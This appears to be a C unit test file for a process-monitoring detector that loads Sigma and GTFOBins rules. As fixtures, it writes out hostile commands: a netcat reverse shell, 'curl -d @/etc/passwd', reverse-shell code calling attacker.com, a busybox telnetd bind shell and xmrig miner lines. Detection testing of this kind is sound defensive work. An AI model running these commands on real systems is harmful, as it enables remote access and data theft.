/* SPDX-License-Identifier: MIT */
/* Rule files: the YAML reader's limits, coi's own rules (all load), the Sigma subset (fields,
 * modifiers, conditions, what is skipped and why), GTFOBins entries in both of the project's
 * layouts (tokens from the example, or coi-match), directories as a clone lays them out, and the
 * engine asking them after its own table. */
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>

#include "monitor/cmdline.h"
#include "monitor/rules.h"
#include "monitor/ruleset.h"
#include "tap.h"
#include "util/error.h"
#include "util/path.h"
#include "util/strv.h"
#include "util/yaml.h"

static char dir[] = "/tmp/coi-test-ruleset-XXXXXX";

static void test_yaml(void)
{
	struct coi_error err = {0};
	struct ynode *y = NULL;
	const char *ok = "a: 1\nb: [x, 'null', null]\nc:\n  d: e\n";

	CHECK(yaml_load(ok, strlen(ok), &y, &err) == 0 && y && y->type == YNODE_MAP);
	CHECK_STREQ(ynode_str(ynode_get(y, "a")), "1");
	CHECK(ynode_get(y, "b")->n == 3 && ynode_str(ynode_get(y, "b")->items[1]));
	CHECK(ynode_get(y, "b")->items[2]->null && !ynode_str(ynode_get(y, "b")->items[2]));
	CHECK_STREQ(ynode_str(ynode_get(ynode_get(y, "c"), "d")), "e");
	CHECK(ynode_get(y, "c")->line == 4 && ynode_get(y, "c")->col == 3);
	y = ynode_free(y);
	CHECK(yaml_load("a: [1, 2\n", 9, &y, &err) == -EBADMSG && strncmp(err.msg, "2:1:", 4) == 0);
	CHECK(yaml_load("a: &x 1\nb: *x\n", 14, &y, &err) == -EBADMSG &&
	      strstr(err.msg, "anchors"));
	CHECK(yaml_load("", 0, &y, &err) == 0 && y == NULL);
	/* Markdown front matter: the text after the first document is never read */
	{
		const char *md = "---\nf: 1\n---\n# heading: with [unbalanced\n";

		CHECK(yaml_load(md, strlen(md), &y, &err) == 0 && y);
		if (!y)
			printf("# %s\n", err.msg);
	}
	y = ynode_free(y);
	{
		char deep[200] = "";

		for (int i = 0; i < 40; i++)
			strcat(deep, "[");
		CHECK(yaml_load(deep, strlen(deep), &y, &err) == -EBADMSG);
	}
}

/* The hits of the loaded rules (only) for argv. */
static size_t match(const struct ruleset *rs, char **argv, const char *exe, struct rule_hit *h)
{
	struct proc_obs p = {
	        .pid = 9, .uid = 1000, .argv = argv, .exe = exe, .parent = "bash<node"};
	struct cmdline cl = {0};
	size_t n;

	CHECK(cmdline_from_argv(argv, &cl) == 0);
	n = ruleset_match_process(rs, &p, &cl, h, RULES_MAX_HITS);
	cmdline_release(&cl);
	return n;
}

static bool fires(const struct ruleset *rs, const char *id, char **argv, const char *exe)
{
	struct rule_hit h[RULES_MAX_HITS];
	size_t n = match(rs, argv, exe, h);

	for (size_t i = 0; i < n; i++)
		if (strcmp(h[i].rule->id, id) == 0)
			return true;
	return false;
}

static const struct ruleset_info *find(const struct ruleset *rs, const char *id)
{
	for (size_t i = 0; i < ruleset_count(rs); i++)
		if (strcmp(ruleset_get(rs, i)->rule->id, id) == 0)
			return ruleset_get(rs, i);
	return NULL;
}

static void test_builtin(void)
{
	_cleanup_(ruleset_freep) struct ruleset *rs = NULL;
	struct coi_error err = {0};
	size_t sigma = 0, gtfo = 0;

	CHECK(ruleset_new(&rs) == 0 && ruleset_add_builtin(rs, &err) == 0);
	for (size_t i = 0; i < ruleset_count(rs); i++) {
		const struct ruleset_info *f = ruleset_get(rs, i);

		if (f->skipped)
			printf("# %s skipped: %s\n", f->rule->id, f->skipped);
		CHECK(!f->skipped); /* every rule coi ships is used */
		CHECK(strncmp(f->source, "builtin:", 8) == 0);
		sigma += f->format == RULESET_SIGMA;
		gtfo += f->format == RULESET_GTFOBINS;
	}
	CHECK(sigma >= 10 && gtfo >= 6);
	CHECK(fires(rs, "sigma:coi_cryptominer",
	            (char *[]){"./xmrig", "-o", "stratum+tcp://pool:3333", NULL}, NULL));
	CHECK(fires(rs, "gtfobins:gdb:reverse-shell",
	            (char *[]){"gdb", "-nx", "-ex", "python import socket,pty", NULL}, NULL));
	CHECK(fires(rs, "gtfobins:telnetd:bind-shell",
	            (char *[]){"busybox", "telnetd", "-l", "/bin/sh", NULL}, NULL));
	/* an agent's ordinary day stays quiet */
	{
		char *quiet[][6] = {{"npm", "install", NULL},
		                    {"git", "commit", "-m", "crontab docs", NULL},
		                    {"crontab", "-l", NULL},
		                    {"vim", "notes.md", NULL},
		                    {"docker", "ps", NULL},
		                    {"modprobe", "-n", "overlay", NULL},
		                    {"gdb", "-batch", "-ex", "bt", "./a.out", NULL}};
		struct rule_hit h[RULES_MAX_HITS];

		for (size_t i = 0; i < ELEMENTSOF(quiet); i++)
			CHECK(match(rs, quiet[i], NULL, h) == 0);
	}
}

static struct ruleset *sigma(const char *text, struct coi_error *err, int *ret)
{
	struct ruleset *rs = NULL;

	CHECK(ruleset_new(&rs) == 0);
	*ret = ruleset_add_text(rs, RULESET_SIGMA, "t.yml", text, strlen(text), err);
	return rs;
}

#define RULE(det)                                                                    \
	"title: T\nname: t\nlevel: high\nlogsource:\n  product: linux\n  category: " \
	"process_creation\ndetection:\n" det

static void test_sigma(void)
{
	struct coi_error err = {0};
	int r;
	_cleanup_(ruleset_freep) struct ruleset *rs = sigma(
	        RULE("  sel:\n    Image|endswith: /curl\n    CommandLine|contains|all:\n      - '-d'\n"
	             "      - '@'\n  filter:\n    CommandLine|contains: localhost\n"
	             "  condition: sel and not filter\n"),
	        &err, &r);

	CHECK(r == 0 && ruleset_count(rs) == 1 && !ruleset_get(rs, 0)->skipped);
	CHECK(ruleset_get(rs, 0)->rule->level == THREAT_HIGH);
	CHECK_STREQ(ruleset_get(rs, 0)->rule->id, "sigma:t");
	CHECK(fires(rs, "sigma:t", (char *[]){"curl", "-d", "@/etc/passwd", "x.test", NULL},
	            "/usr/bin/curl"));
	CHECK(fires(rs, "sigma:t", (char *[]){"curl", "-D", "@f", "x", NULL}, NULL)); /* no case */
	CHECK(!fires(rs, "sigma:t", (char *[]){"curl", "-d", "x", NULL}, NULL));      /* all */
	CHECK(!fires(rs, "sigma:t", (char *[]){"curl", "-d", "@f", "localhost", NULL}, NULL));
	CHECK(!fires(rs, "sigma:t", (char *[]){"wget", "-d", "@f", NULL}, NULL));
	rs = ruleset_free(rs);

	/* quantifiers, parentheses, startswith, keywords, cased, re, null */
	rs = sigma(RULE("  s_a:\n    CommandLine|startswith: 'tar '\n"
	                "  s_b:\n    CommandLine|re: '^rsync .*::'\n"
	                "  kw:\n    - exfil\n"
	                "  cased:\n    CommandLine|cased|contains: SECRET\n"
	                "  nodir:\n    CurrentDirectory: null\n"
	                "  condition: (1 of s_* or kw or cased) and nodir\n"),
	           &err, &r);
	CHECK(r == 0 && !ruleset_get(rs, 0)->skipped);
	CHECK(fires(rs, "sigma:t", (char *[]){"tar", "czf", "x", NULL}, NULL));
	CHECK(fires(rs, "sigma:t", (char *[]){"rsync", "-a", "host::mod", NULL}, NULL));
	CHECK(fires(rs, "sigma:t", (char *[]){"sh", "-c", "do EXFIL now", NULL}, NULL));
	CHECK(fires(rs, "sigma:t", (char *[]){"echo", "SECRET", NULL}, NULL));
	CHECK(!fires(rs, "sigma:t", (char *[]){"echo", "secret", NULL}, NULL));
	CHECK(!fires(rs, "sigma:t", (char *[]){"ls", NULL}, NULL));
	rs = ruleset_free(rs);

	rs = sigma(RULE("  a:\n    User: root\n  b:\n    ParentImage|endswith: /node\n"
	                "  condition: all of them\n"),
	           &err, &r);
	CHECK(r == 0 && !ruleset_get(rs, 0)->skipped);
	CHECK(!fires(rs, "sigma:t", (char *[]){"id", NULL}, NULL)); /* uid 1000, "code" */
	rs = ruleset_free(rs);
	rs = sigma(RULE("  a:\n    User: code\n  b:\n    ParentImage|endswith: /bash\n"
	                "  condition: all of them\n"),
	           &err, &r);
	CHECK(fires(rs, "sigma:t", (char *[]){"id", NULL}, NULL));
	rs = ruleset_free(rs);
}

/* What coi cannot use is kept, skipped, with the reason. */
static void test_sigma_skipped(void)
{
	static const struct {
		const char *det, *why;
	} cases[] = {
	        {"  s:\n    CommandLine|base64: x\n  condition: s\n", "modifier |base64"},
	        {"  s:\n    TargetFilename: x\n  condition: s\n", "field TargetFilename"},
	        {"  s:\n    Image: x\n  condition: s | count() > 5\n", "aggregations"},
	        {"  s:\n    Image: x\n  condition: t\n", "names 't', which is no selection"},
	        {"  s:\n    Image: x\n  condition: s and (s\n", "'(' is not closed"},
	        {"  s:\n    Image: x\n  condition: 1 of x*\n", "no selection is named like"},
	        {"  s:\n    CommandLine|re: '(?<=x)'\n  condition: s\n", "not POSIX"},
	        {"  s:\n    Image: x\n", "no condition"},
	};
	struct coi_error err = {0};

	for (size_t i = 0; i < ELEMENTSOF(cases); i++) {
		int r;
		_cleanup_(ruleset_freep) struct ruleset *rs = sigma(RULE("") "", &err, &r);
		char text[512];

		rs = ruleset_free(rs);
		snprintf(text, sizeof(text), RULE("%s"), cases[i].det);
		rs = sigma(text, &err, &r);
		CHECK(r == 0 && ruleset_count(rs) == 1);
		if (ruleset_count(rs) == 1) {
			const char *why = ruleset_get(rs, 0)->skipped;

			if (!why || !strstr(why, cases[i].why))
				printf("# case %zu: '%s'\n", i, why ? why : "(not skipped)");
			CHECK(why && strstr(why, cases[i].why));
		}
	}
	{
		int r;
		_cleanup_(ruleset_freep) struct ruleset *rs = sigma(
		        "title: W\nlogsource:\n  product: windows\n  category: process_creation\n"
		        "detection:\n  s:\n    Image: x\n  condition: s\n",
		        &err, &r);

		CHECK(r == 0 && strstr(ruleset_get(rs, 0)->skipped, "logsource is windows"));
		rs = ruleset_free(rs);
		rs = sigma("title: [unclosed\n", &err, &r);
		CHECK(r == -EBADMSG && strncmp(err.msg, "t.yml:", 6) == 0);
		rs = ruleset_free(rs);
		rs = sigma("title: no detection\n", &err, &r);
		CHECK(r == -EINVAL && strstr(err.msg, "t.yml:1:1: a Sigma rule needs 'detection'"));
	}
}

static void test_gtfobins(void)
{
	/* the project's older layout (Markdown front matter, $RHOST) and newer one (attacker.com)
	 */
	const char *old = "---\nfunctions:\n  reverse-shell:\n    - description: x\n      code: |\n"
	                  "        export RHOST=attacker.com\n        export RPORT=12345\n"
	                  "        frob --connect $RHOST:$RPORT --exec /bin/sh\n"
	                  "  file-read:\n    - code: frob $LFILE\n---\n# frob\nText [.\n";
	const char *now =
	        "---\nfunctions:\n  bind-shell:\n  - code: |-\n"
	        "      frob --listen 12345 --exec /bin/sh\n    contexts:\n      sudo:\n...\n";
	_cleanup_(ruleset_freep) struct ruleset *rs = NULL;
	struct coi_error err = {0};

	CHECK(ruleset_new(&rs) == 0);
	CHECK(ruleset_add_text(rs, RULESET_GTFOBINS, "/x/_gtfobins/frob.md", old, strlen(old),
	                       &err) == 0);
	CHECK(ruleset_add_text(rs, RULESET_GTFOBINS, "/x/_gtfobins/frob", now, strlen(now), &err) ==
	      0);
	CHECK(ruleset_count(rs) == 2); /* file-read is no finding */
	CHECK(find(rs, "gtfobins:frob:reverse-shell") &&
	      find(rs, "gtfobins:frob:reverse-shell")->rule->level == THREAT_CRITICAL);
	CHECK(find(rs, "gtfobins:frob:bind-shell") &&
	      find(rs, "gtfobins:frob:bind-shell")->rule->level == THREAT_HIGH);
	CHECK_STREQ(find(rs, "gtfobins:frob:reverse-shell")->summary,
	            "frob with \"--connect\" \"--exec\" \"/bin/sh\"");
	CHECK(fires(rs, "gtfobins:frob:reverse-shell",
	            (char *[]){"frob", "--connect", "10.0.0.9:443", "--exec", "/bin/sh", NULL},
	            NULL));
	CHECK(fires(rs, "gtfobins:frob:reverse-shell",
	            (char *[]){"sh", "-c", "sudo frob --connect h:1 --EXEC /bin/sh", NULL}, NULL));
	CHECK(!fires(rs, "gtfobins:frob:reverse-shell",
	             (char *[]){"frob", "--connect", "h:1", NULL}, NULL));
	CHECK(!fires(rs, "gtfobins:frob:reverse-shell",
	             (char *[]){"other", "--connect", "h:1", "--exec", "/bin/sh", NULL}, NULL));
	/* what cannot be a rule */
	{
		const char *alias = "---\nalias: frob\n---\n";
		const char *none = "---\nfunctions:\n  reverse-shell:\n    - code: other thing\n";
		const char *bare =
		        "---\nfunctions:\n  reverse-shell:\n    - code: frob $RHOST 12345\n";
		const char *bad = "---\nfunctions:\n  reverse-shell: frob\n";
		const char *nof = "---\nname: x\n";

		CHECK(ruleset_add_text(rs, RULESET_GTFOBINS, "frob2", alias, strlen(alias), &err) ==
		      0);
		CHECK(!find(rs, "gtfobins:frob2:reverse-shell"));
		CHECK(ruleset_add_text(rs, RULESET_GTFOBINS, "frob3", none, strlen(none), &err) ==
		      0);
		CHECK(strstr(find(rs, "gtfobins:frob3:reverse-shell")->skipped,
		             "never runs frob3"));
		CHECK(ruleset_add_text(rs, RULESET_GTFOBINS, "frob", bare, strlen(bare), &err) ==
		      0);
		CHECK(ruleset_add_text(rs, RULESET_GTFOBINS, "frob4", bad, strlen(bad), &err) ==
		      -EINVAL);
		CHECK(strstr(err.msg, "frob4:3:18: 'reverse-shell' must be a list"));
		CHECK(ruleset_add_text(rs, RULESET_GTFOBINS, "frob5", nof, strlen(nof), &err) ==
		      -EINVAL);
	}
}

static void put(const char *rel, const char *text)
{
	_cleanup_free_ char *p = path_join(dir, rel), *d = NULL;

	CHECK(p != NULL);
	d = strdup(p);
	*strrchr(d, '/') = 0;
	CHECK(mkdir_p(d, 0755) == 0);
	CHECK(write_file_atomic(p, text, strlen(text), 0644, NULL) == 0);
}

static void on_warn(const char *msg, void *u)
{
	(*(int *)u)++;
	printf("# warned: %s\n", msg);
}

/* Directories as the projects' clones lay them out; bad files warned about and skipped. */
static void test_dirs(void)
{
	_cleanup_(ruleset_freep) struct ruleset *rs = NULL;
	_cleanup_free_ char *g = path_join(dir, "gtfo"), *s = path_join(dir, "sigma"),
	                    *none = path_join(dir, "none");
	struct coi_error err = {0};
	int warned = 0;

	put("gtfo/_gtfobins/frob.md",
	    "---\nfunctions:\n  reverse-shell:\n    - code: frob -e /bin/sh attacker.com\n---\n");
	put("gtfo/_gtfobins/broken", "---\nfunctions: [\n");
	put("gtfo/README.md", "# not an entry\n");
	put("gtfo/frob-outside", "---\nfunctions:\n  reverse-shell:\n    - code: x\n");
	put("sigma/rules/linux/process_creation/a.yml", RULE("  s:\n    Image|endswith: /frob\n"
	                                                     "  condition: s\n"));
	put("sigma/rules/windows/b.yml", "not read: outside the linux tree\n");
	put("sigma/rules/linux/process_creation/c.txt", "not a rule file\n");
	CHECK(ruleset_new(&rs) == 0);
	CHECK(ruleset_add_dir(rs, RULESET_GTFOBINS, g, on_warn, &warned, &err) == 2);
	CHECK(ruleset_add_dir(rs, RULESET_SIGMA, s, on_warn, &warned, &err) == 1);
	CHECK(ruleset_add_dir(rs, RULESET_SIGMA, none, on_warn, &warned, &err) == 0);
	CHECK(warned == 1);
	CHECK(ruleset_count(rs) == 2 && find(rs, "gtfobins:frob:reverse-shell") &&
	      find(rs, "sigma:t"));
	/* the same id twice: the second is listed, not used */
	put("more/c.yml", RULE("  s:\n    Image: x\n  condition: s\n"));
	_cleanup_free_ char *more = path_join(dir, "more");
	CHECK(ruleset_add_dir(rs, RULESET_SIGMA, more, on_warn, &warned, &err) == 1);
	CHECK(ruleset_count(rs) == 3 && strstr(ruleset_get(rs, 2)->skipped, "the same id as"));
}

/* The engine asks the loaded rules after its own table. */
static void test_engine(void)
{
	_cleanup_(ruleset_freep) struct ruleset *rs = NULL;
	struct rule_hit h[RULES_MAX_HITS];
	struct rules_config cfg;
	char *nc[] = {"nc", "-e", "/bin/sh", "10.0.0.1", "4444", NULL};
	char *miner[] = {"xmrig", "-o", "stratum+tcp://p:1", NULL};
	size_t n;

	CHECK(ruleset_new(&rs) == 0 && ruleset_add_builtin(rs, NULL) == 0);
	rules_config_default(&cfg);
	CHECK(rules_match_process(&(struct proc_obs){.argv = miner}, &cfg, h, RULES_MAX_HITS) == 0);
	cfg.extra = ruleset_match_process;
	cfg.extra_set = rs;
	n = rules_match_process(&(struct proc_obs){.argv = miner}, &cfg, h, RULES_MAX_HITS);
	CHECK(n == 1 && strcmp(h[0].rule->id, "sigma:coi_cryptominer") == 0);
	CHECK(h[0].level == THREAT_HIGH &&
	      strcmp(h[0].rule->title, "Cryptocurrency miner detected") == 0);
	n = rules_match_process(&(struct proc_obs){.argv = nc}, &cfg, h, RULES_MAX_HITS);
	CHECK(n >= 1 && strcmp(h[0].rule->id, "revshell-netcat") == 0); /* the table first */
	CHECK(rules_match_process(&(struct proc_obs){.argv = nc}, &cfg, h, 1) == 1);
	/* the shell and the program it starts give the same pattern: the responder's one finding */
	{
		char *sh[] = {"sh", "-c", "xmrig -o stratum+tcp://p:1", NULL};
		char *script[] = {"/bin/sh", "/usr/bin/xmrig", "-o", "stratum+tcp://p:1", NULL};
		char first[RULE_TEXT_MAX];

		CHECK(rules_match_process(&(struct proc_obs){.argv = sh}, &cfg, h, 1) == 1);
		snprintf(first, sizeof(first), "%s", h[0].pattern);
		CHECK(rules_match_process(&(struct proc_obs){.argv = script}, &cfg, h, 1) == 1);
		CHECK_STREQ(h[0].pattern, first);
		CHECK_STREQ(first, "CommandLine *stratum+tcp://*");
	}
}

static void test_glob(void)
{
	CHECK(ruleset_glob("*abc*", "xxabcxx"));
	CHECK(ruleset_glob("a?c", "abc") && !ruleset_glob("a?c", "ac"));
	CHECK(ruleset_glob("a\\*c", "a*c") && !ruleset_glob("a\\*c", "abc"));
	CHECK(ruleset_glob("*", "") && ruleset_glob("", "") && !ruleset_glob("", "x"));
	CHECK(!ruleset_glob("*a*a*a*a*a*a*a*b", "aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaa"));
	CHECK(ruleset_glob("/usr/*/python3*", "/usr/bin/python3.11"));
}

int main(void)
{
	if (!mkdtemp(dir))
		return 1;
	RUN(test_yaml);
	RUN(test_builtin);
	RUN(test_sigma);
	RUN(test_sigma_skipped);
	RUN(test_gtfobins);
	RUN(test_dirs);
	RUN(test_engine);
	RUN(test_glob);
	{
		char cmd[128];

		snprintf(cmd, sizeof(cmd), "rm -rf %s", dir);
		if (system(cmd) != 0)
			printf("# cleanup failed\n");
	}
	return tap_done();
}
